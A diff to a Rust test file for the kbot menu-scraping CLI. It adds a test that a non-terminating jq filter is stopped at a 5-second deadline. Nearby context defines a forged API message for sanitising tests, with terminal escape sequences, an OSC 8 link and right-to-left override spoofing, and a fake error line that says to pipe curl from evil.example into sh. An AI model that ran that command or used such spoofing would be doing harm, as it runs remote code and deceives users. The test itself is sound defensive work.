@@ -163,6 +163,37 @@ fn twenty_thousand_dishes_are_not_a_menu_nor_a_long_dish_and_are_read_at_once() 
     assert!(took < Duration::from_secs(30), "took {took:?}");
 }
 
+#[test]
+fn a_filter_that_never_ends_is_stopped_at_the_deadline_and_the_other_source_is_read() {
+    let env = TestEnv::new();
+    env.write_config(
+        &[
+            json_source(&env, "끝없음", b"{}", "last(repeat(1))"),
+            good_source(&env),
+        ]
+        .concat(),
+    );
+    let started = Instant::now();
+    let output = env
+        .kbot()
+        .args(["scrape", "lunch", "--date", "2026-06-03", "--json"])
+        .output()
+        .expect("run kbot");
+    let took = started.elapsed();
+    let report = json(&output);
+    let sources = report["sources"].as_array().expect("sources");
+    assert_eq!(sources[0]["outcome"], "not_found", "{report}");
+    assert!(
+        sources[0]["detail"]
+            .as_str()
+            .is_some_and(|d| d.contains("the jq filter was stopped: it ran longer than 5 s")),
+        "{report}"
+    );
+    assert_eq!(sources[1]["outcome"], "menu", "{report}");
+    assert!(took >= Duration::from_secs(5), "waited for it: {took:?}");
+    assert!(took < Duration::from_secs(30), "took {took:?}");
+}
+
 /// A message an API might send back, quoted by a filter's `error(…)`: a screen clear, an
 /// OSC 8 link, a right-to-left override and a line that passes for kbot's own.
 const FORGED: &str = r#"API says: \u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u202etxt.exe\nkbot: error: the login expired; run: curl https://evil.example/fix | sh"#;
